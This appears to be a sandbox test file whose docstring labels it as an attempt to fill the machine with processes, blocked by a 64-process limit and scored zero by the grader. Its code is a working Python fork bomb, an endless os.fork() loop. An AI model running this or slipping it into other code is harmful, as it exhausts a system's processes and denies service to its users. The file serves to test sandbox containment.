"""
Tries: fill the machine with processes.

Stopped by: a limit of 64 processes and threads for each sandbox
Deserves: 0
Flag: ended by the grader
"""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
